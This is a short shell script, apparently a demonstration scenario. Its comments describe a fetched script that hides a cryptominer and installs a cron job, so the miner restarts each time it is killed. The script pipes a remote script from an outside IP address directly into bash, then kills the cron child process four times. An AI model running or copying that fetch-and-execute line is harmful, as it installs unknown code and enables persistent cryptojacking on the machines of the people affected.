# A fetched script hides a miner and writes a crontab. A person kills the miner four times, and cron starts it again
# each time. Each new process logs in to the pool.
curl -fsS http://203.0.113.10/revive.sh | bash
/usr/sbin/crond jobs /run/due &
cron=$!
for time in 1 2 3 4; do
    sleep 5
    kill "$(pgrep -P "$cron")"
done
wait "$cron"
